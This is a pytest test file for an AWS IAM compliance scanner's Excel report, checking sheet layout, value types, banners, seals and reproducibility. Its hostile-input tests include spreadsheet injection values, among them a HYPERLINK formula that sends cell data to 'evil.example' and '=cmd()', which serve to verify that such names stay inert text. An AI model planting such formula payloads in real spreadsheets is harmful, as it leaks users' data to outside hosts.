import json
import re
import zipfile
from datetime import datetime, timedelta

import openpyxl
import pytest
import reports_fixture as fixture
from openpyxl.chart import LineChart

from scanner.evidence import StoredRun
from scanner.evidence.tables import FINDINGS
from scanner.model import Selection
from scanner.reports import FORMATS
from scanner.reports.sheets import INK, PAPER
from scanner.reports.tables import list_records
from scanner.reports.wording import describe_result
from scanner.reports.workbook import render_workbook

SHEETS = [
    "Summary",
    "Findings",
    "Users",
    "Accounts",
    "Root",
    "Controls",
    "Accepted risks",
    "Changes",
    "Method",
]


def draw(folder, accounts, row_limit=None, **changes):
    run = fixture.write_run(folder, accounts, **changes)
    reports = folder / "reports"
    reports.mkdir(parents=True)
    limit = {} if row_limit is None else {"row_limit": row_limit}
    (path,) = render_workbook(run, reports, **limit)
    return run, path


@pytest.fixture(scope="module")
def ordinary(tmp_path_factory):
    run, path = draw(tmp_path_factory.mktemp("run"), fixture.ordinary())
    return run, openpyxl.load_workbook(path)


@pytest.fixture(scope="module")
def eventful(tmp_path_factory):
    folder = tmp_path_factory.mktemp("run")
    run = fixture.write_eventful(folder)
    (path,) = render_workbook(run, folder)
    return run, openpyxl.load_workbook(path)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return draw(tmp_path_factory.mktemp("run"), fixture.hostile())


def records(sheet):
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def texts(sheet):
    return [str(value) for row in sheet.iter_rows(values_only=True) for value in row if value]


def test_the_sheets_stand_in_reading_order(ordinary):
    """
    Summary first, method last, tables between.
    """
    _, workbook = ordinary

    assert workbook.sheetnames == SHEETS


@pytest.mark.parametrize(
    "name", ["Findings", "Users", "Accounts", "Root", "Controls", "Accepted risks", "Changes"]
)
def test_a_table_is_a_real_excel_table(ordinary, name):
    """
    It has filters, a frozen header that repeats in print, and names its columns as its cells do.
    """
    _, workbook = ordinary
    sheet = workbook[name]

    (table,) = sheet.tables.values()
    assert table.name == f"tbl{name.replace(' ', '')}"
    assert table.ref == table.autoFilter.ref == sheet.dimensions
    assert table.column_names == [cell.value for cell in sheet[1]]
    assert sheet.freeze_panes in {"B2", "C2", "D2"}
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"


def test_workbook_tables_hold_what_the_evidence_holds(ordinary):
    """
    Row for row and column for column the sheets equal the stored tables; what only the workbook has comes after.
    """
    run, workbook = ordinary

    for name, frame in (
        ("Findings", run.findings()),
        ("Accounts", run.accounts()),
        ("Controls", run.controls()),
    ):
        assert [cell.value for cell in workbook[name][1]][: len(frame.columns)] == list(
            frame.columns
        )
        assert workbook[name].max_row == len(frame) + 1
    assert workbook["Users"].max_row == sum(len(batch) for batch in run.users()) + 1


def test_values_keep_their_types(ordinary):
    """
    Account ids are text with their zeros; times are dates that say UTC; booleans and counts are themselves.
    """
    _, workbook = ordinary

    account = records(workbook["Accounts"])[0]
    assert account["account_id"] == "000000000017"
    assert account["generated_time"] == datetime(2026, 11, 24, 9, 58)  # noqa: DTZ001 - a sheet has no zones
    assert (account["users"], account["reason"]) == (2, None)
    user = records(workbook["Users"])[0]
    assert (user["is_root"], user["mfa_active"]) == (True, False)
    cell = workbook["Accounts"].cell(2, list(account).index("generated_time") + 1)
    assert cell.is_date
    assert "UTC" in cell.number_format


def test_true_and_false_are_words_in_every_program(ordinary):
    """
    With a format of their own: LibreOffice shows some bare ones as 0 and 1.
    """
    _, workbook = ordinary

    for name in ("Users", "Root", "Findings", "Accounts"):
        cells = [cell for row in workbook[name].iter_rows() for cell in row]
        formats = {cell.number_format for cell in cells if isinstance(cell.value, bool)}
        assert formats <= {'"TRUE";"TRUE";"FALSE"'}, name
    assert any(isinstance(cell.value, bool) for row in workbook["Root"].iter_rows() for cell in row)


def test_no_link_leads_to_a_row_that_sorting_moves(ordinary):
    """
    Within the workbook a link leads to the top of a sheet, and to nothing below it.
    """
    _, workbook = ordinary

    places = {
        cell.hyperlink.location
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if cell.hyperlink and not cell.hyperlink.target
    }
    assert places
    assert {place.rpartition("!")[2] for place in places} == {"A1"}


def test_the_chart_of_console_users_shows_who_is_not_clear(eventful):
    """
    A bar for each of the three: none is left out because nothing is known of it.
    """
    _, workbook = eventful
    sheet = workbook["Summary"]

    shown = []
    for chart in sheet._charts:
        (series,) = chart.series
        cells = sheet[series.cat.numRef.f.rpartition("!")[2].replace("$", "")]
        if chart.tagname == "barChart":
            shown.append([cell.value for (cell,) in cells])
            assert len(series.dPt) == len(cells)
    assert ["with MFA", "without MFA", "Not clear"] in shown


def test_a_tall_header_is_dark_only_where_its_words_are(ordinary):
    """
    The controls' check names stand upright; beside them the header is paper, and no block of ink.
    """
    _, workbook = ordinary
    sheet = workbook["Controls"]

    looks = {(cell.alignment.textRotation, cell.fill.fgColor.rgb[-6:]) for cell in sheet[1]}
    assert looks == {(90, INK), (0, PAPER)}
    assert sheet.row_dimensions[1].height < 190
    assert {cell.fill.fgColor.rgb[-6:] for cell in workbook["Root"][1]} == {INK}


def test_the_summary_equals_summary_json(ordinary):
    """
    Each total on the sheet is the one that was sealed.
    """
    run, workbook = ordinary
    summary = run.summary
    facts = {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True) if row[0]}

    accounts, users = summary.accounts, summary.users
    assert [facts[name] for name in ("Listed", "Collected", "Not collected", "Excluded")] == [
        accounts.listed,
        accounts.collected,
        accounts.not_collected,
        accounts.excluded,
    ]
    assert [facts[name] for name in ("IAM users", "Console users", "without MFA")] == [
        users.users,
        users.console,
        users.console_without_mfa,
    ]
    assert facts["findings in all"] == summary.findings
    assert facts["Seal (SHA-256 of manifest.json)"] == run.manifest_sha256
    for check in summary.checks:
        assert facts[check.check] == check.rows


def test_an_incomplete_run_says_so_first_and_names_the_accounts(tmp_path):
    """
    The banner stands above the conclusion, each print header carries it, and the reasons follow.
    """
    _, path = draw(tmp_path, [*fixture.clean(), fixture.missed("555555555555", "unreachable")])
    workbook = openpyxl.load_workbook(path)

    summary = texts(workbook["Summary"])
    assert summary[1] == "INCOMPLETE: 1 of 3 accounts could not be read"
    assert "555555555555" in summary
    assert any("cannot be assumed" in text for text in summary)
    headers = [str(sheet.oddHeader.right.text) for sheet in workbook if sheet.oddHeader]
    assert len(headers) == len(workbook.sheetnames)
    assert all("INCOMPLETE" in text for text in headers)


def test_a_complete_run_carries_no_banner(ordinary):
    """
    The word appears only where it is true.
    """
    _, workbook = ordinary

    assert not [text for sheet in workbook for text in texts(sheet) if "INCOMPLETE" in text]


def test_doubts_are_banners(tmp_path):
    """
    Simulated organizations and partial selections are named on the summary.
    """
    selection = Selection(ous=("ou-ab12-11111111",))
    _, path = draw(tmp_path, fixture.clean(), simulated=True, selection=selection)

    summary = texts(openpyxl.load_workbook(path)["Summary"])

    assert summary[1].startswith("SIMULATED: this organization is simulated")
    assert summary[2].startswith("PARTIAL SELECTION")


def test_no_name_becomes_a_formula_a_link_or_an_error(hostile):
    """
    Formulas stand on Summary alone, and no name is in one; links lead to the console's own hosts.
    """
    _, path = hostile
    workbook = openpyxl.load_workbook(path)

    words = r"[A-Za-z0-9_'\"!$:,=<>()*+\[\]. -]+"
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "e", cell
                if cell.data_type == "f":
                    assert sheet.title == "Summary"
                    assert re.fullmatch(rf"=(COUNT|SUBTOTAL|SUMPRODUCT){words}", str(cell.value))
                if cell.hyperlink and cell.hyperlink.target:
                    assert re.fullmatch(LINK, cell.hyperlink.target), cell.hyperlink.target


LINK = r"https://(console\.aws\.amazon\.com/iam/home|\d{12}\.signin\.aws\.amazon\.com/console)"


def test_names_with_control_characters_are_shown(hostile):
    """
    Excel's format has no place for them, so they are replaced visibly and not dropped.
    """
    _, path = hostile

    names = {row["name"] for row in records(openpyxl.load_workbook(path)["Accounts"])}

    assert "line one[U+000D][U+000A]line two[U+0009]tab[U+0000]nul[U+001B][31mred[U+007F]" in names
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in names
    assert "#N/A" in names


def test_a_table_without_rows_explains_itself(tmp_path):
    """
    An empty table is still a valid one, and says why it is empty.
    """
    _, path = draw(tmp_path / "clean", fixture.clean())
    _, other = draw(tmp_path / "unread", [fixture.missed(fixture.MANAGEMENT, "management")])
    workbook = openpyxl.load_workbook(path)

    said = {name: workbook[name]["A2"].value for name in ("Findings", "Accepted risks", "Changes")}
    assert said == {
        "Findings": "No findings",
        "Accepted risks": "No accepted risks were given",
        "Changes": "There is no previous run to compare with, so nothing is said about what changed.",
    }
    assert openpyxl.load_workbook(other)["Users"]["A2"].value == "No account was read"
    (table,) = workbook["Findings"].tables.values()
    assert table.ref == f"A1:{openpyxl.utils.get_column_letter(len(FINDINGS.names) + 4)}2"


def test_more_users_than_a_sheet_holds_go_to_more_sheets(tmp_path):
    """
    Nobody is left out at Excel's limit of rows, here lowered to six.
    """
    run, path = draw(tmp_path, fixture.ordinary(), row_limit=6)
    workbook = openpyxl.load_workbook(path)

    sheets = [sheet for sheet in workbook if sheet.title.startswith("Users")]
    assert [sheet.title for sheet in sheets] == ["Users 1", "Users 2", "Users 3"]
    written = [row["arn"] for sheet in sheets for row in records(sheet)]
    assert written == [arn for batch in run.users() for arn in batch["arn"]]
    assert len({table for sheet in workbook for table in sheet.tables}) == len(
        [table for sheet in workbook for table in sheet.tables]
    )


def test_exactly_as_many_rows_as_fit_stay_on_one_sheet(tmp_path):
    """
    The limit itself still fits, without an empty second sheet.
    """
    run, _ = draw(tmp_path / "first", fixture.ordinary())
    findings = len(run.findings())
    assert findings > sum(len(batch) for batch in run.users()) == 13

    _, path = draw(tmp_path / "exact", fixture.ordinary(), row_limit=findings)
    assert "Findings" in openpyxl.load_workbook(path).sheetnames
    _, path = draw(tmp_path / "less", fixture.ordinary(), row_limit=findings - 1)
    assert {"Findings 1", "Findings 2"} <= set(openpyxl.load_workbook(path).sheetnames)


def test_nothing_in_the_file_tells_when_it_was_drawn(hostile):
    """
    Dates inside are the end of the scan, so that drawing it again gives the same bytes.
    """
    run, path = hostile
    finished = run.summary.window.finished

    with zipfile.ZipFile(path) as archive:
        dates = {info.date_time for info in archive.infolist()}
        core = archive.read("docProps/core.xml").decode()

    assert dates == {(2026, 11, 24, 10, 27, 30)}
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core)) == {f"{finished:%Y-%m-%dT%H:%M:%SZ}"}


def test_no_sheet_promises_anything(ordinary):
    """
    The determination is the assessor's.
    """
    _, workbook = ordinary

    said = "\n".join(text for sheet in workbook for text in texts(sheet)).lower()

    assert not re.search(r"compliant|certified|passed pci", said)


def test_the_summary_says_how_many_exceptions_are_accepted(eventful):
    """
    Accepted risks are counted beside the exceptions, whose number stays.
    """
    run, workbook = eventful
    rows = [row for row in workbook["Summary"].iter_rows(values_only=True) if row[0]]
    facts = {row[0]: row for row in rows}

    assert facts["of them accepted risks"][1] == run.summary.accepted == 1
    (total,) = [total for total in run.summary.checks if total.check == "console-no-mfa"]
    line = facts["console-no-mfa"]
    assert line[1:8] == (
        total.rows,
        total.failed,
        total.passed,
        total.needs_review,
        total.unknown,
        total.not_applicable,
        total.accepted,
    )
    assert line[8:10] == ("user", "Console password without MFA")
    failed = sum(total.failed for total in run.summary.checks)
    assert any(
        text.startswith(f"1 of the {failed} exceptions") for text in texts(workbook["Summary"])
    )


def test_the_summary_prints_every_warning_and_doubt(eventful):
    """
    Warnings, old reports and counts that differ are on the first sheet.
    """
    run, workbook = eventful
    said = " ".join(texts(workbook["Summary"]))
    facts = {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True) if row[0]}

    assert len(run.summary.warnings) == 5
    for warning in run.summary.warnings:
        assert warning in said
    assert facts["Reports older than allowed"] == 1
    assert facts["of them different, and explained"] == 1
    assert facts["of them different, and not explained"] == 1
    assert facts["Accounts that could not be compared"] == 1
    assert facts["Oldest report allowed"] == "24 hours old when fetched"


def test_the_summary_prints_scopes_and_the_trend(eventful):
    """
    Each framework's scope stands with who declared it, and each period with its figures.
    """
    run, workbook = eventful
    said = " ".join(texts(workbook["Summary"]))
    facts = {row[0]: row for row in workbook["Summary"].iter_rows(values_only=True) if row[0]}

    assert facts["pci-dss-4.0.1"][1:4] == (2, 0, "declared")
    assert facts["iso-27001-2022"][1:4] == (9, 3, "not declared")
    pci = run.summary.scopes[0]
    assert f"{pci.words} ({pci.source}, SHA-256" in said
    assert pci.sha256 in said
    (now,) = [row for name, row in facts.items() if name.startswith("2026-Q4, run")]
    point = run.summary.trend[-1]
    assert now[1:7] == (
        point.collected,
        point.listed,
        point.console,
        point.without_mfa,
        point.accepted,
        point.exceptions,
    )


def test_a_period_that_was_not_read_whole_is_marked_in_table_and_chart(eventful):
    """
    Its line says how many accounts could be used, and its point stands hollow at the end of a dashed line.
    """
    run, workbook = eventful
    said = texts(workbook["Summary"])
    (chart,) = [c for c in workbook["Summary"]._charts if isinstance(c, LineChart)]
    whole, partial = run.summary.trend

    assert whole.is_whole
    assert f"2026-Q3, run {whole.run_id}" in said
    assert f"2026-Q4, run {partial.run_id}, 6 of 8 accounts used" in said
    (mark,) = chart.series[0].dPt
    assert mark.idx == 1
    assert mark.spPr.ln.prstDash == "dash"
    assert mark.marker.spPr.solidFill.srgbClr == "FFFFFF"


def test_users_of_a_report_that_was_too_old_are_not_counted_live(eventful):
    """
    Their rows hold what the report says, so the formulas count verdicts, which are unknown there.
    """
    _, workbook = eventful
    rows = {row[0]: row[2] for row in workbook["Summary"].iter_rows(values_only=True) if row[0]}

    assert rows["Console users"] == rows["Not clear"] == "\u2013"
    for name, verdict in (("with MFA", "pass"), ("without MFA", "fail")):
        assert rows[name].endswith(f'[console-no-mfa],"{verdict}")')


def test_changes_and_acceptances_are_sheets_to_filter(eventful):
    """
    Each accepted risk and each change is a row; the changes add up to the totals.
    """
    run, workbook = eventful
    changes = records(workbook["Changes"])

    assert [row["id"] for row in records(workbook["Accepted risks"])] == [
        entry.id for entry in run.summary.acceptances
    ]
    counted = run.summary.changes
    for state in ("new", "still-open", "fixed"):
        assert sum(row["state"] == state for row in changes) == counted[state]
    assert len(changes) == sum(counted.values())


def test_the_method_names_every_condition_scope_and_gap(eventful):
    """
    Thresholds, other editions, untested controls and what nothing shows are on the last sheet.
    """
    run, workbook = eventful
    said = texts(workbook["Method"])
    whole = " ".join(said)

    assert any(text.startswith("user-inactive: ") for text in said)
    assert "days = 90; operator = more-than" in said
    for framework in run.frameworks:
        for gap in framework.not_evidenced:
            assert f"Not evidenced: {', '.join(gap.ids)}" in said
        for control in framework.controls:
            for edition, ids in control.crosswalk.items():
                assert f"{edition}: {', '.join(ids)}" in whole
            if control.not_tested:
                assert f"Not tested: {control.not_tested}" in whole
    assert run.summary.scopes[0].sha256 in whole


def test_a_name_in_an_acceptance_becomes_no_formula(tmp_path):
    """
    Text of the acceptance file is text in every sheet.
    """
    risky = fixture.accept("risky", "alice", reason="=1+1", owner="=cmd()", ticket="#N/A")
    _, path = draw(tmp_path, fixture.ordinary(), acceptances=fixture.write_acceptances(risky))
    workbook = openpyxl.load_workbook(path)

    (row,) = records(workbook["Accepted risks"])
    assert (row["reason"], row["owner"], row["ticket"]) == ("=1+1", "=cmd()", "#N/A")
    for sheet in workbook:
        kinds = {cell.data_type for line in sheet.iter_rows() for cell in line}
        assert not kinds & ({"e"} if sheet.title == "Summary" else {"f", "e"}), sheet.title


def test_a_sheet_of_very_many_columns_prints_on_more_than_one_page(ordinary):
    """
    Fitted to one page in width, the users' verdicts would be too small to read.
    """
    _, workbook = ordinary

    assert workbook["Summary"].page_setup.fitToWidth == 1
    assert workbook["Users"].page_setup.fitToWidth > 2


def test_the_whole_seal_is_printed_below_each_sheet(ordinary):
    """
    A printed sheet names the evidence it belongs to.
    """
    run, workbook = ordinary

    for sheet in workbook:
        assert run.manifest_sha256 in sheet.oddFooter.left.text
        assert len(str(sheet.oddFooter)) <= 255  # Excel's limit for a footer


def test_an_unsigned_run_says_so_in_the_workbook(ordinary):
    """
    Summary and Method say it beside the seal.
    """
    _, workbook = ordinary

    for name in ("Summary", "Method"):
        rows = list(workbook[name].iter_rows(values_only=True))
        assert [row[1] for row in rows if row[0] == "Signature"] == ["unsigned"]


def test_a_signed_run_names_the_key_in_the_workbook(tmp_path):
    """
    The id stands there whole, as the run's signature names it.
    """
    run = fixture.write_run(tmp_path, fixture.clean(), frameworks=())
    envelope = {"signatures": [{"keyid": "ab" * 32, "sig": ""}]}
    (run.folder / "manifest.dsse.json").write_text(json.dumps(envelope))

    (path,) = render_workbook(StoredRun(run.folder), tmp_path)

    rows = list(openpyxl.load_workbook(path)["Summary"].iter_rows(values_only=True))
    assert [row[1] for row in rows if row[0] == "Signature"] == [f"signed by key {'ab' * 32}"]


def test_a_run_that_was_resumed_lists_its_parts_in_the_workbook(tmp_path):
    """
    Each part of the collection has its times, and one that was killed says how it ended.
    """
    _, path = draw(tmp_path, fixture.clean(), sittings=fixture.list_sittings(12, None, 5))
    summary = openpyxl.load_workbook(path)["Summary"]
    said = {row[0]: row[1] for row in summary.iter_rows(values_only=True)}

    assert said["Part 1 of 3"] == "2026-11-24 10:15 UTC to 2026-11-24 10:27 UTC, interrupted"
    assert said["Part 2 of 3"] == "from 2026-11-24 11:15 UTC, and ended without notice"
    assert said["Part 3 of 3"] == "2026-11-24 12:15 UTC to 2026-11-24 12:20 UTC"
    assert any("collected in 3 parts, not at once" in text for text in texts(summary))


def test_rows_of_a_report_that_was_too_old_say_so(tmp_path):
    """
    What such a report shows was true once and decides nothing: accounts, users and root users are marked.
    """
    accounts = [
        *fixture.ordinary(),
        fixture.Listed(
            "888888888888",
            "old-report",
            people=(fixture.Person("zoe", mfa="false", live=fixture.OPEN),),
            age=timedelta(hours=30),
        ),
    ]
    run, path = draw(tmp_path / "run", accounts)
    workbook = openpyxl.load_workbook(path)

    for name in ("Accounts", "Users", "Root"):
        said = {row["account_id"]: row["report"] for row in records(workbook[name])}
        assert said.pop("888888888888") == "too old: no verdict", name
        assert set(said.values()) == {None}, name
    (page,) = FORMATS["github"](run, tmp_path)
    assert "| `888888888888` | `old-report` | 30 h 01 min |" in page.read_text()


def test_a_control_has_its_result_in_words(ordinary):
    """
    The words of the PDF, beside the verdict that machines read.
    """
    run, workbook = ordinary
    rows = {(row["framework"], row["control_id"]): row for row in records(workbook["Controls"])}

    for framework in run.frameworks:
        for control in list_records(run.controls()):
            if control["framework"] == framework.id:
                row = rows[framework.id, control["control_id"]]
                assert row["result"] == describe_result(framework, control)
